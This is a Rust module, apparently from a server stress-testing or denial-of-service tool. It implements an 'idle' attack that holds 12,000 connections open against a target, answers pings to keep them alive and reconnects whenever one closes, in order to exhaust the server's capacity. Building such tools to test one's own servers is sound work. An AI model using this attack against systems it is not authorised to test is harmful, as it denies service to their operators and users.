//! Connections that are complete and carry no call.

use std::time::Duration;

use anyhow::Result;
use futures_util::future::{LocalBoxFuture, join_all};
use tokio::time::sleep;

use crate::attack::{Attack, AttackTarget};
use crate::flood::WINDOW_SMALL;
use crate::wire;

const CONNECTIONS: u64 = 12_000;
/// Between two attempts of one attacker.
const PAUSE: Duration = Duration::from_secs(1);

/// As many connections as the server takes, all of which answer its PINGs.
pub(crate) struct IdleAttack;

impl Attack for IdleAttack {
    fn name(&self) -> &'static str {
        "idle"
    }

    fn has_token(&self) -> bool {
        false
    }

    fn run<'t>(&'t self, target: &'t AttackTarget) -> LocalBoxFuture<'t, Result<()>> {
        Box::pin(async move {
            join_all((0..CONNECTIONS).map(|number| keep(target, number))).await;
            Ok(())
        })
    }
}

/// Keeps one connection to the server, and opens it again whenever it is closed.
async fn keep(target: &AttackTarget, number: u64) {
    sleep(Duration::from_micros(100 * number)).await;
    loop {
        if let Ok((_sender, connection)) = wire::open(target, WINDOW_SMALL).await {
            _ = connection.await;
        }
        sleep(PAUSE).await;
    }
}
